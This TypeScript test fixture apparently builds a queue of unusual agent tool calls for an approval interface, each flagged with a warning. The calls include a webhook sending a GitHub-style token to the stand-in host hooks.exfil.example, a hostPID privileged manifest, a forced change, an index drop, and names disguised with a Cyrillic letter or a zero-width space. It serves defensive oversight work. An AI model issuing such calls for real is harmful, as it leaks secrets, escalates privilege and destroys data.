// One call of every kind that a card has to show and an ordinary day seldom has.
import type { Waiting } from './approvals';
import { waiting } from './approvals';
import { seg } from './text';

const MINUTE = 60_000;
const TOKEN = 'ghp_0123456789abcdefghijklmnopqrstuv3f9a';

/** The queue of a strange day. */
export function strangeQueue(now: number): Waiting[] {
  const rules = Array.from({ length: 40 }, (_, n) => `  - rule ${n}: keep`).join('\n');
  return [
    waiting(now, 'create_webhook', { url: 'https://hooks.exfil.example/in', secret: TOKEN, events: ['push', '*'], note: `${' '.repeat(3)}p\u0430yments` }, {
      headline: { verb: 'Create webhook', object: seg('hooks.exfil.example'), scope: seg('in ledger') }, server: 'github', count: 5,
      marked: [
        { pointer: '/url', part: 'hooks.exfil.example', kind: 'leavesMachine', text: 'Leaves the machine: hooks.exfil.example is not a host you know' },
        { pointer: '/events/1', part: '*', kind: 'wildcard', text: 'Everything: events is `*`' },
        { pointer: '/note', part: 'p\u0430yments', kind: 'lookalike', text: 'Looks like payments, uses Cyrillic \u0430' },
        { pointer: '/secret', part: TOKEN, kind: 'secret', text: 'Contains what looks like a GitHub token', masked: 'ghp_••••••••3f9a' },
      ],
    }),
    waiting(now, 'apply_manifest', { manifest: `${rules}\nspec:\n  hostPID: true\n${rules}`, deep: { one: { two: { three: { four: { force: true } } } } }, wide: 'x'.repeat(3000) }, {
      severity: 'high', headline: { verb: 'Change manifest', object: seg('ledger-api'), scope: seg('in payments') },
      marked: [
        { pointer: '/manifest', part: 'hostPID: true', kind: 'privilege', text: 'Privilege: hostPID' },
        { pointer: '/deep/one/two/three/four/force', part: 'true', kind: 'destroy', text: 'force is true' },
      ],
    }, { onceOnly: null }),
    waiting(now, 'write_file', { path: '/srv/app/config.yaml', content: 'a: 1\n' }, {
      severity: 'medium', server: 'files', headline: { verb: 'Change', object: seg('/srv/app/config.yaml'), scope: null }, state: 'expired', nextTry: true,
      closedAt: now - MINUTE, ending: 'Nobody answered within 10 minutes; this one call was denied.',
    }),
    waiting(now, 'kubectl_scale', { namespace: 'payments', replicas: 3 }, {
      severity: 'low', headline: { verb: 'Scale', object: seg('ledger-api'), scope: seg('in payments') }, holdUntil: now + 25_000, before: { namespace: 'payments', replicas: 2 },
    }, { clientWaitsUntil: null, patience: 'unknown' }),
    waiting(now, 'drop_index', {}, { severity: 'critical', headline: { verb: 'Delete index', object: seg('led\u200Bger'), scope: null }, server: 'postgres' }, { typedTarget: 'led\u200Bger' }),
  ];
}
